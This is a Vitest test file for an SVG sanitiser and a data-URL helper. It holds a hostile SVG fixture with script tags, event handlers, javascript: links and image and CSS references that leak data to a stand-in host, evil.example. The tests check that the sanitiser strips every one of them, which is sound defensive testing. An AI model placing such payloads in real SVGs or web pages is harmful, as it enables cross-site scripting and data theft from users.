// @vitest-environment jsdom
import { describe, expect, it } from 'vitest'
import { sanitizeSvg, svgDataUrl } from '../src/lib/svg'

const EVIL = `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     width="40" height="20" viewBox="0 0 40 20" onload="window.pwned = 1">
  <script>fetch('/api/conversations', {method: 'POST'})</script>
  <defs><linearGradient id="g"><stop offset="0" stop-color="teal"/></linearGradient></defs>
  <style>rect { fill: url(#g) } @import url(http://evil.example/a.css);</style>
  <rect width="40" height="20" fill="url(#g)" onclick="alert(1)"
        style="fill: url(http://evil.example/leak?d=1)"/>
  <image href="http://evil.example/leak.png?d=secret" width="5" height="5"/>
  <image xlink:href="https://evil.example/leak.png" width="5" height="5"/>
  <a href="javascript:alert(1)"><text x="1" y="10">hi &amp; bye</text></a>
  <foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="/"></iframe></foreignObject>
  <animate attributeName="href" to="javascript:alert(1)"/>
</svg>`

function parse(markup: string): Document {
  const doc = new DOMParser().parseFromString(markup, 'image/svg+xml')
  expect(doc.getElementsByTagName('parsererror').length).toBe(0)
  return doc
}

describe('sanitizeSvg', () => {
  it('keeps the drawing and drops scripts, handlers and outside references', () => {
    const clean = sanitizeSvg(EVIL)
    expect(clean).not.toBeNull()
    const doc = parse(clean!)
    const root = doc.documentElement
    expect(root.localName).toBe('svg')
    expect(root.getAttribute('viewBox')).toBe('0 0 40 20')
    expect(root.getAttribute('width')).toBe('40')
    expect(doc.getElementsByTagName('rect').length).toBe(1)
    expect(doc.getElementsByTagName('linearGradient').length).toBe(1)
    expect(doc.getElementsByTagName('text')[0].textContent).toBe('hi & bye')
    for (const tag of ['script', 'foreignObject', 'iframe', 'animate']) {
      expect(doc.getElementsByTagName(tag).length).toBe(0)
    }
    for (const el of Array.from(doc.getElementsByTagName('*'))) {
      for (const a of Array.from(el.attributes)) {
        expect(a.name.startsWith('on')).toBe(false)
        expect(a.value).not.toMatch(/javascript:|evil\.example/)
      }
    }
    expect(clean).not.toContain('evil.example')
  })

  it('refuses what is no SVG', () => {
    expect(sanitizeSvg('<html><script>x()</script></html>')).toBeNull()
    expect(sanitizeSvg('plain text')).toBeNull()
  })
})

describe('svgDataUrl', () => {
  it('is a base64 data: URL of the sanitised SVG, non-ASCII text included', () => {
    const url = svgDataUrl('<svg xmlns="http://www.w3.org/2000/svg"><text>ünï — 漢</text></svg>')
    expect(url).toMatch(/^data:image\/svg\+xml;base64,/)
    const bytes = Uint8Array.from(atob(url!.split(',')[1]), (c) => c.charCodeAt(0))
    const doc = parse(new TextDecoder().decode(bytes))
    expect(doc.documentElement.textContent).toBe('ünï — 漢')
    expect(svgDataUrl('<p>no svg</p>')).toBeNull()
  })
})
